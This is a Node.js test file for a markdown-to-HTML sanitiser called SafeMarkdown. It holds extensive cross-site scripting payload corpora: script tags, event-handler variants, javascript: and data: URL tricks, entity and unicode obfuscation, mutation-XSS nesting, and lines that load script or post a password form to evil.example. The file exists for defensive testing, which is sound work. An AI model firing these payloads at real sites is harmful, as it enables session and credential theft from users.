// SafeMarkdown's output goes into innerHTML (static/js/interview.js): whatever a candidate or the
// model writes, the rendered HTML holds only the elements the renderer writes itself, no event
// handler, and no link to a scheme other than http(s). Each corpus entry is checked three ways:
// the raw payload is caught by the checker (so the check can fail), the rendered HTML passes it, and
// a payload without markdown syntax reads back verbatim (escaped, not dropped).
import { test } from "node:test";
import assert from "node:assert/strict";
import { SafeMarkdown } from "./load.mjs";
import { links, nestingProblems, problems, startTags, textContent } from "./html.mjs";

const { render } = SafeMarkdown;

function assertSafe(source) {
  const html = render(source);
  assert.deepEqual(problems(html), [], `${JSON.stringify(source).slice(0, 200)}\nrendered ${html.slice(0, 400)}`);
  return html;
}

function assertCorpus(corpus) {
  assert.ok(corpus.length > 0);
  for (const payload of corpus) {
    assert.notDeepEqual(problems(payload), [], `the checker misses the raw payload ${JSON.stringify(payload)}`);
    assertSafe(payload);
  }
}

// No markdown syntax: the reader sees exactly what was typed.
function isPlain(source) {
  return !/[*`[]/.test(source) && source.split("\n").every((line) => line.trim() && !/^\s*([-+#]|\d+[.)])/.test(line));
}

function assertVerbatim(corpus) {
  const plain = corpus.filter(isPlain);
  assert.ok(plain.length > 0);
  for (const payload of plain) assert.equal(textContent(render(payload)), payload, JSON.stringify(payload));
}

const ALERT = "alert(document.domain)";

const SCRIPT_TAGS = [
  `<script>${ALERT}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<ScRiPt>${ALERT}</sCrIpT>`,
  `<script/src="data:,${ALERT}"></script>`,
  `<script\n>${ALERT}</script\n>`,
  `<scr<script>ipt>${ALERT}</scr</script>ipt>`,
  `<<script>script>${ALERT}<</script>/script>`,
  `</script><script>${ALERT}</script>`,
  `<script type="module">import "//evil.example/x.js"</script>`,
  `<script src=//evil.example/x.js`,
  `"><script>${ALERT}</script>`,
];

const HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter"];
const casings = (name) => [name, name.toUpperCase(), name.replace(/(^.|r)/g, (c) => c.toUpperCase()), "On" + name.slice(2)];
const QUOTINGS = [`=${ALERT}`, `="${ALERT}"`, `='${ALERT}'`, `=\`${ALERT}\``, ` = "${ALERT}"`, `="&#97;lert(1)"`];
const SEPARATORS = [" ", "/", "\t", "\n", "\f", `"`, "/x/"];
const HOSTS = ["img src=x", "svg", "body", "details open", "input autofocus", "video src=x", 'a href="https://ok.example"', "style", "x"];

const EVENT_HANDLERS = HANDLERS.flatMap((handler) =>
  casings(handler).flatMap((name) =>
    QUOTINGS.flatMap((quoting) =>
      SEPARATORS.map((sep, n) => `<${HOSTS[(name.length + n) % HOSTS.length]}${sep}${name}${quoting}>`))));

const SCHEMES = [
  "javascript:", "JaVaScRiPt:", "JAVASCRIPT:", " javascript:", "\x01javascript:", "\u0000javascript:",
  "java\tscript:", "java\nscript:", "java\rscript:", "&#106;avascript:", "&#x6A;avascript:", "&#X6a;avascript:",
  "&#0000106;avascript:", "&#106avascript:", "java&#x09;script:", "java&Tab;script:", "java&NewLine;script:",
  "javascript&colon;", "javascript&#58;", "javascript&#x3a;", "vbscript:", "VBScript:", "data:text/html,",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==,", "DATA:image/svg+xml,", "&#x20;javascript:",
];

const URL_ATTRS = ['a href="$"', "a href='$'", "a href=$", 'iframe src="$"', 'form action="$"',
  'button formaction="$"', 'object data="$"', 'embed src="$"', 'svg><a xlink:href="$"', 'math href="$"'];

const DANGEROUS_URLS = SCHEMES.flatMap((scheme, n) =>
  [0, 1, 2].map((k) => `<${URL_ATTRS[(n + k * 3) % URL_ATTRS.length].replace("$", scheme + ALERT)}>x</a>`));

const MARKDOWN_LINK_SCHEMES = SCHEMES.flatMap((scheme) => [
  `[x](${scheme}${ALERT})`, `![x](${scheme}${ALERT})`, `[x](<${scheme}${ALERT}>)`,
  `[x](${scheme}${ALERT} "t")`, `<${scheme}${ALERT}>`, `[x][1]\n\n[1]: ${scheme}${ALERT}`,
]);

const MARKDOWN_LINKS_HOSTILE = [
  `[x](https://a.example"onmouseover="${ALERT})`,
  `[x](https://a.example'onmouseover='${ALERT})`,
  `[x](https://a.example/"><script>${ALERT}</script>)`,
  `[x](https://a.example/'><img src=x onerror=${ALERT}>)`,
  `[x](https://a.example "title\\" onclick=${ALERT}")`,
  `[x](https://a.example 'title" onmouseover="${ALERT}')`,
  `[x](https://a.example&quot;onclick=&quot;${ALERT})`,
  `[x](https://a.example&#34;onclick&#61;${ALERT})`,
  `[x"onclick="${ALERT}](https://a.example)`,
  `[<img src=x onerror=${ALERT}>](https://a.example)`,
  `[x](https://a.example)<img src=x onerror=${ALERT}>`,
  `![x](https://a.example/i.png"onerror="${ALERT})`,
  `![<svg onload=${ALERT}>](https://a.example/i.png)`,
  `[x](//evil.example/${ALERT})`,
  `[x](https:javascript:${ALERT})`,
  `[x](http://a.example\`onclick=${ALERT}\`)`,
  `[[x](https://a.example)](javascript:${ALERT})`,
  `[x](https://a.example/*"onclick="${ALERT}*)`,
  `[x](https://a.example/\`<img src=x onerror=${ALERT}>\`)`,
];

const ENTITY_TRICKS = [
  `&lt;script&gt;${ALERT}&lt;/script&gt;`,
  `&#60;script&#62;${ALERT}&#60;/script&#62;`,
  `&#x3C;img src=x onerror=${ALERT}&#x3E;`,
  `&#0000060;img src=x onerror=${ALERT}&#0000062;`,
  `&LT;img src=x onerror=${ALERT}&GT;`,
  `&amp;lt;script&amp;gt;`,
  `&lt&#59;script&gt&#59;`,
  `\\u003cscript\\u003e${ALERT}\\u003c/script\\u003e`,
  `%3Cscript%3E${ALERT}%3C/script%3E`,
  `&quot; onmouseover=&quot;${ALERT}`,
  `&#39; onmouseover=&#39;${ALERT}`,
  `&`, `&&`, `&#`, `&#x;`, `&#99999999;`, `&nbsp`,
];

const NESTED = [
  `**<img src=x onerror=${ALERT}>**`,
  `*<script>${ALERT}</script>*`,
  `***<svg onload=${ALERT}>***`,
  `**[*<b onclick=${ALERT}>x</b>*](https://a.example)**`,
  `<b><i><u onclick=${ALERT}>x</u></i></b>`,
  `<div><p onclick=${ALERT}>x</p></div>`,
  `<a href="https://a.example"><img src=x onerror=${ALERT}></a>`,
  `<noscript><p title="</noscript><img src=x onerror=${ALERT}>">`,
  `<svg><style><img src=x onerror=${ALERT}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ALERT}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ALERT}>`,
  `<p>**<em onmouseover=${ALERT}>x</em>**</p>`,
  `- <img src=x onerror=${ALERT}>\n  - <svg onload=${ALERT}>\n1. <script>${ALERT}</script>`,
  `# <h1 onclick=${ALERT}>x</h1>`,
  `<ul><li onclick=${ALERT}>x</li></ul>`,
  `<p>${"<b>".repeat(50)}x${"</b>".repeat(50)}</p>`,
];

const COMMENTS = [
  `<!-- x -->`,
  `<!--><img src=x onerror=${ALERT}>-->`,
  `<!--[if IE]><script>${ALERT}</script><![endif]-->`,
  `<![CDATA[<script>${ALERT}</script>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${ALERT}>`,
  `<!DOCTYPE html><script>${ALERT}</script>`,
  `</ x onclick=${ALERT}>`,
  `<!--->--><img src=x onerror=${ALERT}>`,
  `<!- x -><svg onload=${ALERT}>`,
];

const FOREIGN_AND_RAW = [
  `<svg onload=${ALERT}>`,
  `<svg><script>${ALERT}</script></svg>`,
  `<svg><animate onbegin=${ALERT} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${ALERT}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${ALERT}'/></svg>#x"/></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${ALERT}">x</maction></math>`,
  `<math href="javascript:${ALERT}">x</math>`,
  `<iframe src="javascript:${ALERT}"></iframe>`,
  `<iframe srcdoc="<script>${ALERT}</script>"></iframe>`,
  `<iframe src=https://evil.example>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>*{background:url(javascript:${ALERT})}</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${ALERT}">`,
  `<base href="https://evil.example/">`,
  `<object data="javascript:${ALERT}"></object>`,
  `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<form><button formaction=javascript:${ALERT}>x</button></form>`,
  `<input onfocus=${ALERT} autofocus>`,
  `<details open ontoggle=${ALERT}>`,
  `<marquee onstart=${ALERT}>x</marquee>`,
  `<template><script>${ALERT}</script></template>`,
  `<xmp><script>${ALERT}</script></xmp>`,
  `<plaintext><script>${ALERT}</script>`,
  `<textarea></textarea><script>${ALERT}</script>`,
  `<title></title><script>${ALERT}</script>`,
  `<table background="javascript:${ALERT}">`,
  `<div style="background:url(javascript:${ALERT})">x</div>`,
  `<img src="x" style="x:expression(${ALERT})">`,
  `<img srcset="javascript:${ALERT} 1x">`,
  `<a href="https://ok.example" target=_blank>x</a>`,
  `<p id="transcript">x</p>`,
  `<form action=https://evil.example><input name=password></form>`,
];

const QUOTE_BREAKING = [
  `" onmouseover="${ALERT}`,
  `' onmouseover='${ALERT}`,
  `"><script>${ALERT}</script>`,
  `'><img src=x onerror=${ALERT}>`,
  `\`><img src=x onerror=${ALERT}>`,
  `"/><svg/onload=${ALERT}>`,
  `</code></pre><script>${ALERT}</script>`,
  `</p><img src=x onerror=${ALERT}><p>`,
  `</a><a href="javascript:${ALERT}">x`,
  `**"** onclick="${ALERT}`,
];

const UNICODE = [
  `\uFF1Cscript\uFF1E${ALERT}\uFF1C/script\uFF1E`,
  `\u202Egnp.exe \u202Dx`,
  `[x](java\u200Bscript:${ALERT})`,
  `[x](\u00A0javascript:${ALERT})`,
  `[x](\u3000javascript:${ALERT})`,
  `<scr\u0130pt>${ALERT}</scr\u0130pt>`,
  `\u00003<script>${ALERT}</script>`,
  `<\u0000script>${ALERT}</script>`,
  `\uFEFF<img src=x onerror=${ALERT}>`,
  `\uD800<svg onload=${ALERT}>\uDFFF`,
  `\u{1F600} **bold** \u{1F600} <b>x</b>`,
  `\u0131mg \u017Fcript`,
  `\u2028<img src=x onerror=${ALERT}>\u2029`,
  `\u0085<svg onload=${ALERT}>`,
  `<a href="\uFF4Aavascript:${ALERT}">x</a>`,
];

const BACKTICKS = [
  `\`<script>${ALERT}</script>\``,
  `\`</code><img src=x onerror=${ALERT}>\``,
  `\`\`<b onclick=${ALERT}>\`\``,
  `\`a <img src=x onerror=${ALERT}>`,
  `\`\`\`\n<img src=x onerror=${ALERT}>\n\`\`\``,
  `\`\`\`html\n</code></pre><script>${ALERT}</script>\n\`\`\``,
  `\`\`\`<script>${ALERT}</script>\n<svg onload=${ALERT}>\n\`\`\`<iframe src=javascript:${ALERT}>`,
  `\`\`\`\`\n\`\`\`\n<img src=x onerror=${ALERT}>\n\`\`\`\n\`\`\`\``,
  `\`**<img src=x onerror=${ALERT}>**\``,
  `\`[x](javascript:${ALERT})\``,
  `\`[x](https://a.example/"onclick="${ALERT})\``,
];

test("test_markdown_xss_script_tags", () => assertCorpus(SCRIPT_TAGS));

test("test_markdown_xss_script_tags_read_verbatim", () => assertVerbatim(SCRIPT_TAGS));

test("test_markdown_xss_event_handlers_in_every_casing_and_quoting", () => {
  assert.ok(EVENT_HANDLERS.length > 1000);
  assertCorpus(EVENT_HANDLERS);
});

test("test_markdown_xss_event_handlers_read_verbatim", () => assertVerbatim(EVENT_HANDLERS));

test("test_markdown_xss_dangerous_schemes_in_html_attributes", () => assertCorpus(DANGEROUS_URLS));

test("test_markdown_xss_dangerous_schemes_in_markdown_links_make_no_link", () => {
  for (const source of MARKDOWN_LINK_SCHEMES) {
    const html = assertSafe(source);
    assert.deepEqual(links(html), [], source);
  }
});

test("test_markdown_xss_hostile_markdown_links", () => {
  for (const source of MARKDOWN_LINKS_HOSTILE) assertSafe(source);
});

test("test_markdown_xss_quote_in_link_url_stays_inside_href", () => {
  const html = assertSafe(`[x](https://a.example/"onmouseover="${ALERT})`);
  assert.deepEqual(links(html), [{
    href: `https://a.example/"onmouseover="${ALERT.slice(0, -1)}`, rel: "noopener noreferrer", target: "_blank", text: "x",
  }]);
});

test("test_markdown_xss_markup_in_link_label_is_text", () => {
  const html = assertSafe(`[<img src=x onerror=${ALERT}>](https://a.example)`);
  assert.deepEqual(startTags(html), ["p", "a"]);
  assert.equal(links(html)[0].text, `<img src=x onerror=${ALERT}>`);
});

test("test_markdown_xss_images_never_render", () => {
  for (const source of [`![x](https://a.example/i.png)`, ...MARKDOWN_LINKS_HOSTILE.filter((s) => s.startsWith("!"))]) {
    assert.ok(!startTags(assertSafe(source)).includes("img"), source);
  }
});

test("test_markdown_xss_entity_tricks", () => {
  for (const source of ENTITY_TRICKS) assertSafe(source);
});

test("test_markdown_xss_entity_tricks_read_verbatim", () => assertVerbatim(ENTITY_TRICKS));

test("test_markdown_xss_nested_markup", () => assertCorpus(NESTED));

test("test_markdown_xss_html_comments_and_declarations", () => assertCorpus(COMMENTS));

test("test_markdown_xss_comments_read_verbatim", () => assertVerbatim(COMMENTS));

test("test_markdown_xss_svg_math_iframe_style_and_raw_text_elements", () => assertCorpus(FOREIGN_AND_RAW));

test("test_markdown_xss_foreign_elements_read_verbatim", () => assertVerbatim(FOREIGN_AND_RAW));

test("test_markdown_xss_attribute_breaking_quotes", () => {
  for (const source of QUOTE_BREAKING) assertSafe(source);
});

test("test_markdown_xss_attribute_breaking_quotes_read_verbatim", () => assertVerbatim(QUOTE_BREAKING));

test("test_markdown_xss_unicode", () => {
  for (const source of UNICODE) assertSafe(source);
});

test("test_markdown_xss_unicode_reads_verbatim", () => assertVerbatim(UNICODE));

test("test_markdown_xss_backticks_with_html_inside_code", () => {
  for (const source of BACKTICKS) assertSafe(source);
});

test("test_markdown_xss_html_in_code_span_is_text", () => {
  assert.equal(render(`\`<script>${ALERT}</script>\``), `<p><code>&lt;script&gt;${ALERT}&lt;/script&gt;</code></p>`);
});

test("test_markdown_xss_html_in_code_block_is_text", () => {
  const html = render(`\`\`\`\n</code></pre><img src=x onerror=${ALERT}>\n\`\`\``);
  assert.equal(html, `<pre><code>&lt;/code&gt;&lt;/pre&gt;&lt;img src=x onerror=${ALERT}&gt;</code></pre>`);
});

test("test_markdown_xss_very_long_input", () => {
  const everything = [SCRIPT_TAGS, DANGEROUS_URLS, MARKDOWN_LINKS_HOSTILE, NESTED, COMMENTS, FOREIGN_AND_RAW,
    QUOTE_BREAKING, UNICODE, BACKTICKS].flat().join("\n");
  const source = everything.repeat(Math.ceil(500_000 / everything.length));
  const started = performance.now();
  assertSafe(source);
  assert.ok(performance.now() - started < 5000, "rendering half a megabyte took over 5 s");
});

test("test_markdown_xss_long_runs_of_markup", () => {
  for (const source of ["<".repeat(100_000), "<a ".repeat(30_000), `<img src=x onerror=${ALERT}>`.repeat(5_000),
    "<b>".repeat(30_000) + "x", "&#".repeat(50_000), "`<".repeat(50_000), "*<".repeat(50_000)]) {
    assertSafe(source);
  }
});

test("test_markdown_xss_corpus_output_is_well_nested", () => {
  const corpus = [SCRIPT_TAGS, EVENT_HANDLERS, DANGEROUS_URLS, MARKDOWN_LINK_SCHEMES, MARKDOWN_LINKS_HOSTILE,
    ENTITY_TRICKS, NESTED, COMMENTS, FOREIGN_AND_RAW, QUOTE_BREAKING, UNICODE, BACKTICKS].flat();
  for (const source of corpus) assert.deepEqual(nestingProblems(render(source)), [], JSON.stringify(source));
});

// A fixed seed: the same strings on every run, so a failure can be replayed.
function randomSources(count, seed) {
  let state = seed;
  const next = () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const pieces = ["<", ">", '"', "'", "`", "```", "*", "**", "[", "]", "(", ")", "](", "https://a.example/", "http://",
    "javascript:", "&#106;", "&", ";", "#", "- ", "1. ", "\n", "\n\n", " ", "\t", "x", "onerror=", "alert(1)", "<img ",
    "<svg/onload=", "</code>", "<!--", "-->", "\u0000", "\u202E", "=", "/"];
  return Array.from({ length: count }, () =>
    Array.from({ length: 1 + Math.floor(next() * 40) }, () => pieces[Math.floor(next() * pieces.length)]).join(""));
}

test("test_markdown_xss_random_sources_are_safe_and_well_nested", () => {
  for (const source of randomSources(5000, 16)) {
    const html = assertSafe(source);
    assert.deepEqual(nestingProblems(html), [], `${JSON.stringify(source)}\nrendered ${html}`);
  }
});
